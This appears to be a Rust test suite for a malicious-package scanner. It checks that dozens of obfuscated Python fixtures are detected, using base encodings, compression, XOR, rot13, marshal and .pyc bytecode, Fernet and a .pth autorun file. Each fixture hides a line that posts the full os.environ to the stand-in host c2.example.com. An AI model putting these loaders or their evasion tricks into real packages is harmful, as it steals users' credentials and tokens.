//! Payloads hidden in ever other encodings are decoded and convict.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn encodings() {
    convicted(70, &[
        ("b32", &[
            ("demo/__init__.py", br#"import base64
exec(base64.b32decode('NFWXA33SOQQG64ZMOJSXC5LFON2HGCTSMVYXKZLTORZS44DPON2CQJ3IOR2HA4Z2F4XWGMROMV4GC3LQNRSS4Y3PNUXXQJZMMRQXIYJ5MRUWG5BIN5ZS4ZLOOZUXE33OFEUQU==='))"#),
        ]),
        ("b85", &[
            ("demo/__init__.py", br#"import base64
exec(base64.b85decode(b'X>D+Ca&#bXb1ZUYadl;LbaM)FWpQ<7b98eqaBp*TC?{xibZ~PzFE3*<E@gOOZE$R5E@N+PFL);`WMOn+J!ENPbSQ6gE@f_ZX>xCFDJcp'))"#),
        ]),
        ("a85", &[
            ("demo/__init__.py", br#"import base64
exec(base64.a85decode(b'Bl.g-Ec`FBF"D?CEHPi6FE7e0AT;j(F*)IUE,Tf>-mr\\MFDu:^0/$fj/nK99D/a<&/n8g:06eiqA79Rg4_/8:F=;\'K/nJpDBl\\-0.4GT'))"#),
        ]),
        ("lzma", &[
            ("demo/__init__.py", br#"import lzma,base64
exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ABSAE5dADSbSme4Ujxz7TSDKfYtWQED0Yb6pnLMs3f9/Y/Kog/QOYVUku+yjZ+x1T1gilYtOItgivFMDocx9M9NkQLOESvNCqp28bfSVOQcWCAAAAAAAIZNqvBlZOcJAAFqU0g29k0ftvN9AQAAAAAEWVo=')))"#),
        ]),
        ("bz2", &[
            ("demo/__init__.py", br#"import bz2,base64
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWZ4HJ0IAABNZgAAQQOWQEi5n/0AgAEiKbU9TEHpGyj1DaBqmRgmNAjAC+/vIQJpxSBwpRkJNzWSeL2xWBwFNWu79GLLxG2T1BfrFCc5BgZZ0htXkrsa2NXZwXckU4UJCeBydCA==')))"#),
        ]),
        ("a58", &[
            ("demo/__init__.py", br#"import builtins
getattr(builtins,bytes.fromhex('65786563').decode())(bytes.fromhex('696d706f7274206f732c72657175657374730a72657175657374732e706f7374282768747470733a2f2f63322e6578616d706c652e636f6d2f78272c646174613d64696374286f732e656e7669726f6e29290a').decode())"#),
        ]),
        ("a59", &[
            ("demo/__init__.py", br#"import zlib
exec(zlib.decompress(b'x\x9c5\xc61\n\xc0 \x0c\x00\xc0\xddWtSA"t,\xf41\xa2\x01\x85jR\x93\x16\x9f\xdf\xa97]\xebLS7\x920\xf1~PT\xcc\x1f`\x12u\xb6\xaa\xb2\x1c1\xe6\x1dp\xa5\xce\x17B\xa6\x1e\x97\r%i:K\xcb\xeaH\x00\xc7\xdb&\r\xef\xcd\x07\x1aj\x1e\x00'))"#),
        ]),
        ("codecs", &[
            ("demo/__init__.py", br#"import codecs
exec(codecs.decode("vzcbeg bf,erdhrfgf\nerdhrfgf.cbfg('uggcf://p2.rknzcyr.pbz/k',qngn=qvpg(bf.raiveba))\n",'rot_13'))"#),
        ]),
        ("pth", &[
            ("demo.pth", br#"import os,base64;exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo='))
"#),
        ]),
    ]);
}

#[test]
fn ciphers_made_by_hand() {
    convicted(70, &[
        ("xor1", &[
            ("demo/__init__.py", br#"d=b"njwhus'ht+ubvrbtst\rubvrbtst)whts/ osswt=((d5)b\x7ffjwkb)dhj(\x7f +cfsf:cnds/ht)biqnuhi..\r"
exec(bytes(b ^ 7 for b in d))"#),
        ]),
        ("xor2", &[
            ("demo/__init__.py", br#"d='\x02^\tN\x19GYN\x18\x1f\x0bD\x1aF\x1cR\x1f@sS\x0eB\x0cD\x18G\n\x0f\x1b\\\nUC\x14\x11U\x1fC\n\x1bD\x1c\x1a\x13EV\x01@\x06C\x15DEP\x16LDK^\r\x0fR\r@VW\x10B\x1f\x1b\x16REV\x17W\x02A\x16OB\x1as'
k='k3y!'
exec(''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate(d)))"#),
        ]),
        ("xor3", &[
            ("demo/__init__.py", br#"from itertools import cycle
d=b'\x02^\tN\x19GYN\x18\x1f\x0bD\x1aF\x1cR\x1f@sS\x0eB\x0cD\x18G\n\x0f\x1b\\\nUC\x14\x11U\x1fC\n\x1bD\x1c\x1a\x13EV\x01@\x06C\x15DEP\x16LDK^\r\x0fR\r@VW\x10B\x1f\x1b\x16REV\x17W\x02A\x16OB\x1as'
k=b'k3y!'
exec(bytes(a ^ b for a, b in zip(d, cycle(k))).decode())"#),
        ]),
        ("xor4", &[
            ("demo/__init__.py", br#"d=bytearray(b'\x02^\tN\x19GYN\x18\x1f\x0bD\x1aF\x1cR\x1f@sS\x0eB\x0cD\x18G\n\x0f\x1b\\\nUC\x14\x11U\x1fC\n\x1bD\x1c\x1a\x13EV\x01@\x06C\x15DEP\x16LDK^\r\x0fR\r@VW\x10B\x1f\x1b\x16REV\x17W\x02A\x16OB\x1as')
k=b'k3y!'
for i in range(len(d)):
    d[i] ^= k[i % len(k)]
exec(d.decode())"#),
        ]),
        ("xor5", &[
            ("demo/__init__.py", br#"def dec(s,k):
    out=''
    for i in range(len(s)):
        out += chr(s[i] ^ ord(k[i % len(k)]))
    return out
exec(dec([2, 94, 9, 78, 25, 71, 89, 78, 24, 31, 11, 68, 26, 70, 28, 82, 31, 64, 115, 83, 14, 66, 12, 68, 24, 71, 10, 15, 27, 92, 10, 85, 67, 20, 17, 85, 31, 67, 10, 27, 68, 28, 26, 19, 69, 86, 1, 64, 6, 67, 21, 68, 69, 80, 22, 76, 68, 75, 94, 13, 15, 82, 13, 64, 86, 87, 16, 66, 31, 27, 22, 82, 69, 86, 23, 87, 2, 65, 22, 79, 66, 26, 115],'k3y!'))"#),
        ]),
        ("chrminus", &[
            ("demo/__init__.py", br#"exec(''.join([chr(ord(c)-3) for c in 'lpsruw#rv/uhtxhvwv\ruhtxhvwv1srvw+*kwwsv=22f51h{dpsoh1frp2{*/gdwd@glfw+rv1hqylurq,,\r']))"#),
        ]),
        ("translate", &[
            ("demo/__init__.py", br#"t=str.maketrans('abcdefghijklmnopqrstuvwxyz','bcdefghijklmnopqrstuvwxyza')
exec("hlonqs nr,qdptdrsr\nqdptdrsr.onrs('gssor://b2.dwzlokd.bnl/w',czsz=chbs(nr.dmuhqnm))\n".translate(t))"#),
        ]),
    ]);
}

#[test]
fn characters_and_numbers() {
    convicted(70, &[
        ("map", &[
            ("demo/__init__.py", br#"exec(''.join(map(chr,[105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 114, 101, 113, 117, 101, 115, 116, 115, 10, 114, 101, 113, 117, 101, 115, 116, 115, 46, 112, 111, 115, 116, 40, 39, 104, 116, 116, 112, 115, 58, 47, 47, 99, 50, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109, 47, 120, 39, 44, 100, 97, 116, 97, 61, 100, 105, 99, 116, 40, 111, 115, 46, 101, 110, 118, 105, 114, 111, 110, 41, 41, 10])))"#),
        ]),
        ("bytes_list", &[
            ("demo/__init__.py", br#"exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 114, 101, 113, 117, 101, 115, 116, 115, 10, 114, 101, 113, 117, 101, 115, 116, 115, 46, 112, 111, 115, 116, 40, 39, 104, 116, 116, 112, 115, 58, 47, 47, 99, 50, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109, 47, 120, 39, 44, 100, 97, 116, 97, 61, 100, 105, 99, 116, 40, 111, 115, 46, 101, 110, 118, 105, 114, 111, 110, 41, 41, 10]).decode())"#),
        ]),
        ("inttobytes", &[
            ("demo/__init__.py", br#"n=31523254695788253650834916640134342337062375392394390496458413448765387423925547128396535600048009868301298853013095458970842630057086941383129558373023037980491223945420656031354742185037457863026954
exec(n.to_bytes(83,'big').decode())"#),
        ]),
        ("a60", &[
            ("demo/__init__.py", br#"exec(''.join(chr(x) for x in [0x69,0x6d,0x70,0x6f,0x72,0x74,0x20,0x6f,0x73,0x2c,0x72,0x65,0x71,0x75,0x65,0x73,0x74,0x73,0xa,0x72,0x65,0x71,0x75,0x65,0x73,0x74,0x73,0x2e,0x70,0x6f,0x73,0x74,0x28,0x27,0x68,0x74,0x74,0x70,0x73,0x3a,0x2f,0x2f,0x63,0x32,0x2e,0x65,0x78,0x61,0x6d,0x70,0x6c,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x78,0x27,0x2c,0x64,0x61,0x74,0x61,0x3d,0x64,0x69,0x63,0x74,0x28,0x6f,0x73,0x2e,0x65,0x6e,0x76,0x69,0x72,0x6f,0x6e,0x29,0x29,0xa]))"#),
        ]),
        ("a61", &[
            ("demo/__init__.py", br#"exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+chr(115)+chr(44)+chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116)+chr(115)+chr(10)+chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116)+chr(115)+chr(46)+chr(112)+chr(111)+chr(115)+chr(116)+chr(40)+chr(39)+chr(104)+chr(116)+chr(116)+chr(112)+chr(115)+chr(58)+chr(47)+chr(47)+chr(99)+chr(50)+chr(46)+chr(101)+chr(120)+chr(97)+chr(109)+chr(112)+chr(108)+chr(101)+chr(46)+chr(99)+chr(111)+chr(109)+chr(47)+chr(120)+chr(39)+chr(44)+chr(100)+chr(97)+chr(116)+chr(97)+chr(61)+chr(100)+chr(105)+chr(99)+chr(116)+chr(40)+chr(111)+chr(115)+chr(46)+chr(101)+chr(110)+chr(118)+chr(105)+chr(114)+chr(111)+chr(110)+chr(41)+chr(41)+chr(10))"#),
        ]),
        ("a62", &[
            ("demo/__init__.py", br#"exec('\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x2c\x72\x65\x71\x75\x65\x73\x74\x73\x0a\x72\x65\x71\x75\x65\x73\x74\x73\x2e\x70\x6f\x73\x74\x28\x27\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x32\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d\x2f\x78\x27\x2c\x64\x61\x74\x61\x3d\x64\x69\x63\x74\x28\x6f\x73\x2e\x65\x6e\x76\x69\x72\x6f\x6e\x29\x29\x0a')"#),
        ]),
    ]);
}

#[test]
fn layers_and_compiled_code() {
    convicted(70, &[
        ("lambda_z", &[
            ("demo/__init__.py", br#"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AgHqpxBN/eDms9xAgk6LvkOpVSDX6hpCdhzlCXHmHDHyqqt1JBYfwMVQ5X8wI5NTx06ddTqf/pFTKlaFGgoxQPL0JSQTR3VdDMAMACwKEjx1wJe'))"#),
        ]),
        ("marsh", &[
            ("demo/__init__.py", br#"import marshal,base64
exec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAYAAAAAAAAA81YAAACXAGQAZAFsAFoAZABkAWwBWgECAGUBagIAAAAAAAAAAGQCAgBlA2UAagQAAAAAAAAAAKYBAACrAQAAAAAAAAAArAOmAgAAqwIAAAAAAAAAAAEAZAFTACkE6QAAAABOehhodHRwczovL2MyLmV4YW1wbGUuY29tL3gpAdoEZGF0YSkF2gJvc9oIcmVxdWVzdHPaBHBvc3TaBGRpY3TaB2Vudmlyb26pAPMAAAAA2gF4+gg8bW9kdWxlPnILAAAAAQAAAHNHAAAA8AMBAQHYABLQABLQABLQABLQABLQABLQABLQABLYAA2ACIQN0A4oqGSoZLAytDrRLj7ULj7QAD/RAD/UAD/QAD/QAD/QAD9yCQAAAA==')))"#),
        ]),
        ("marsh_fn", &[
            ("demo/__init__.py", br#"import marshal,base64
def f():
    exec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAYAAAAAAAAA81YAAACXAGQAZAFsAFoAZABkAWwBWgECAGUBagIAAAAAAAAAAGQCAgBlA2UAagQAAAAAAAAAAKYBAACrAQAAAAAAAAAArAOmAgAAqwIAAAAAAAAAAAEAZAFTACkE6QAAAABOehhodHRwczovL2MyLmV4YW1wbGUuY29tL3gpAdoEZGF0YSkF2gJvc9oIcmVxdWVzdHPaBHBvc3TaBGRpY3TaB2Vudmlyb26pAPMAAAAA2gF4+gg8bW9kdWxlPnILAAAAAQAAAHNHAAAA8AMBAQHYABLQABLQABLQABLQABLQABLQABLQABLYAA2ACIQN0A4oqGSoZLAytDrRLj7ULj7QAD/RAD/UAD/QAD/QAD/QAD9yCQAAAA==')))"#),
        ]),
        ("fernet", &[
            ("demo/__init__.py", br#"from cryptography.fernet import Fernet
exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA=='))"#),
        ]),
        ("pyc1", &[
            ("demo/__init__.py", br#"from . import core
"#),
            ("demo/core.pyc", b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00I{\x02kS\x00\x00\x00\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x00\xf3V\x00\x00\x00\x97\x00d\x00d\x01l\x00Z\x00d\x00d\x01l\x01Z\x01\x02\x00e\x01j\x02\x00\x00\x00\x00\x00\x00\x00\x00d\x02\x02\x00e\x03e\x00j\x04\x00\x00\x00\x00\x00\x00\x00\x00\xa6\x01\x00\x00\xab\x01\x00\x00\x00\x00\x00\x00\x00\x00\xac\x03\xa6\x02\x00\x00\xab\x02\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00d\x01S\x00)\x04\xe9\x00\x00\x00\x00Nz\x18https://c2.example.com/x)\x01\xda\x04data)\x05\xda\x02os\xda\x08requests\xda\x04post\xda\x04dict\xda\x07environ\xa9\x00\xf3\x00\x00\x00\x00\xfa\x15/tmp/tmp_qin7_ff/a.py\xfa\x08<module>r\x0c\x00\x00\x00\x01\x00\x00\x00sG\x00\x00\x00\xf0\x03\x01\x01\x01\xd8\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd8\x00\x0d\x80\x08\x84\x0d\xd0\x0e(\xa8d\xa8d\xb02\xb4:\xd1.>\xd4.>\xd0\x00?\xd1\x00?\xd4\x00?\xd0\x00?\xd0\x00?\xd0\x00?r\x0a\x00\x00\x00"),
        ]),
        ("pyc3", &[
            ("demo/__init__.py", br#"import marshal,os
exec(marshal.loads(open(os.path.join(os.path.dirname(__file__),'c.bin'),'rb').read()[16:]))
"#),
            ("demo/c.bin", b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00I{\x02kS\x00\x00\x00\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x00\xf3V\x00\x00\x00\x97\x00d\x00d\x01l\x00Z\x00d\x00d\x01l\x01Z\x01\x02\x00e\x01j\x02\x00\x00\x00\x00\x00\x00\x00\x00d\x02\x02\x00e\x03e\x00j\x04\x00\x00\x00\x00\x00\x00\x00\x00\xa6\x01\x00\x00\xab\x01\x00\x00\x00\x00\x00\x00\x00\x00\xac\x03\xa6\x02\x00\x00\xab\x02\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00d\x01S\x00)\x04\xe9\x00\x00\x00\x00Nz\x18https://c2.example.com/x)\x01\xda\x04data)\x05\xda\x02os\xda\x08requests\xda\x04post\xda\x04dict\xda\x07environ\xa9\x00\xf3\x00\x00\x00\x00\xfa\x15/tmp/tmpatqfyv_9/a.py\xfa\x08<module>r\x0c\x00\x00\x00\x01\x00\x00\x00sG\x00\x00\x00\xf0\x03\x01\x01\x01\xd8\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd0\x00\x12\xd8\x00\x0d\x80\x08\x84\x0d\xd0\x0e(\xa8d\xa8d\xb02\xb4:\xd1.>\xd4.>\xd0\x00?\xd1\x00?\xd4\x00?\xd0\x00?\xd0\x00?\xd0\x00?r\x0a\x00\x00\x00"),
        ]),
        ("py2", &[
            ("demo/__init__.py", br#"import base64
print 'x'
exec base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=')
"#),
        ]),
    ]);
}
